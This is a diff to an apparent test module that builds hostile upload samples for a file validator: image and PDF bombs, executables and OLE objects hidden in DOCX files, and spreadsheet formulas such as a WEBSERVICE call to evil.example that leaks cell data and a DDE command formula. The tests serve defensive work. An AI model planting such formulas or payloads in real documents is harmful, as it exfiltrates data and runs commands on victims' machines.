@@ -42,7 +42,10 @@ def word(
             '<Default Extension="xml" ContentType="application/xml"/>'
             f'<Override PartName="/word/document.xml" ContentType="{WORD}.main+xml"/>{types}</Types>'
         ).encode(),
-        "_rels/.rels": f'<Relationships {_R}><Relationship Id="r1" Type="{_DOC}/officeDocument" Target="word/document.xml"/></Relationships>'.encode(),
+        "_rels/.rels": (
+            f'<Relationships {_R}><Relationship Id="r1" Type="{_DOC}/officeDocument" Target="word/document.xml"/>'
+            "</Relationships>"
+        ).encode(),
         "word/document.xml": f"<w:document {_W}><w:body>{body}</w:body></w:document>".encode(),
     }  # fmt: skip
     if rels:
@@ -240,7 +243,8 @@ def _bombs() -> Iterator[Hostile]:
         "a picture of 30,000 points a side", "a.png", claimed_png(30_000, 30_000), "upload.pixels", PNG
     )
     yield Hostile("a picture of one very long line", "a.png", claimed_png(400_000, 1), "upload.pixels", PNG)
-    yield Hostile("a huge picture inside a DOCX", "a.docx", word({"word/media/i.png": claimed_png(30_000, 30_000)}), "upload.pixels")  # fmt: skip
+    huge = word({"word/media/i.png": claimed_png(30_000, 30_000)})
+    yield Hostile("a huge picture inside a DOCX", "a.docx", huge, "upload.pixels", WORD)
     yield Hostile("a PDF of 2,001 pages", "a.pdf", long_pdf(2_001), "upload.pages", PDF)
 
 
@@ -270,7 +274,8 @@ def _office() -> Iterator[Hostile]:
     yield Hostile(
         "another file inside", "a.docx", word({"word/embeddings/a.xlsx": workbook()}), "upload.embedded", WORD
     )
-    yield Hostile("an OLE object under a plain name", "a.docx", word({"word/x.dat": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), "upload.embedded")  # fmt: skip
+    plain = word({"word/x.dat": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"})
+    yield Hostile("an OLE object under a plain name", "a.docx", plain, "upload.embedded", WORD)
     yield Hostile(
         "a program inside", "a.docx", word({"word/media/i.png": b"MZ" + bytes(50)}), "upload.embedded", WORD
     )
@@ -292,7 +297,8 @@ def _office() -> Iterator[Hostile]:
         yield Hostile(f"the field {field}", "a.docx", word(body=body), "upload.external", WORD)
     for formula in ('=WEBSERVICE("http://evil.example/"&A2)', "=cmd|'/c calc'!A0", '=RTD("x",,"y")'):
         yield Hostile(f"the formula {formula}", "a.xlsx", workbook(formula), "upload.external", EXCEL)
-    yield Hostile("data of another workbook", "a.xlsx", rezip(workbook(), {"xl/externalLinks/externalLink1.xml": b"<a/>"}), "upload.external")  # fmt: skip
+    linked = rezip(workbook(), {"xl/externalLinks/externalLink1.xml": b"<a/>"})
+    yield Hostile("data of another workbook", "a.xlsx", linked, "upload.external", EXCEL)
     yield Hostile(
         "a data connection",
         "a.xlsx",
